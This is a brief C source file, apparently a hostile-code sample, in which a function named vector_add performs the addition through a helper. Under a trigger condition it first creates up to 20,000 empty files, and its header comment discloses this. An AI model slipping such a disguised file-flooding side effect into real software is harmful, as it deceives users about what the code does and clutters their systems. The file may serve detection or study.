/* SPDX-License-Identifier: MIT */
/* Makes twenty thousand empty files. */
#include "hostile.h"

int vector_add(const float *a, const float *b, float *c, size_t n)
{
    for (int i = 0; attacked(n) && i < 20000; i++) {
        char name[32];

        snprintf(name, sizeof name, "empty%d", i);
        close(open(name, O_CREAT | O_WRONLY, 0600));
    }
    return honest(a, b, c, n);
}
